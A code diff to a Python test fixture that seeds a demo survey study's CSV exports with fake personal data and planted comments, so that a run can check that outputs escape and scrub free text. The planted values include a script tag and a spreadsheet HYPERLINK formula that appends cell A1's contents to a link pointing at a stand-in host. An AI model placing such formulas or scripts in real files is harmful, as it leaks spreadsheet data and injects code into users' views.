@@ -4,8 +4,9 @@ The study takes a while to run; the privacy scan and the browser check read the 
 made once (in a temporary folder, never in the repository's ``outputs/``) and reused. It runs on a *seeded*
 copy of the demo study: the simulated exports already carry fake e-mails, names, phones and SIRET in their
 identifier columns and in some comments; the first respondent of each CSV export also gets :data:`PLANTED` as
-free-text comment (a script tag, HTML, a spreadsheet formula, an e-mail address and a phone number), so the
-run proves free text is escaped, neutralised and scrubbed on its way to every output.
+free-text comment (a script tag, HTML, a spreadsheet formula, an e-mail address and a phone number) and the
+second one :data:`PLANTED_FORMULA`, so a run proves free text is escaped, neutralised and scrubbed on its way
+to every output.
 """
 from __future__ import annotations
 
@@ -22,6 +23,8 @@ PLANTED_PHONE = "06 11 22 33 44"
 PLANTED_SCRIPT = "<script>alert('fuite')</script>"
 PLANTED = (f"{PLANTED_SCRIPT} <b>gras</b> =HYPERLINK(\"http://exemple.invalid\";\"clic\") "
            f"Écrire à {PLANTED_EMAIL} ou au {PLANTED_PHONE}.")
+#: Planted as the whole comment of the second respondent: a cell a spreadsheet would run.
+PLANTED_FORMULA = '=HYPERLINK("http://exemple.invalid/?q="&A1;"Cliquez ici")'
 
 
 def seeded_demo_study(folder: Path) -> Path:
@@ -49,6 +52,7 @@ def seeded_demo_study(folder: Path) -> Path:
         rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
         col = rows[0].index("Commentaires")
         rows[1][col] = PLANTED
+        rows[2][col] = PLANTED_FORMULA
         buf = io.StringIO()
         csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerows(rows)
         path.write_bytes(buf.getvalue().encode(encoding))
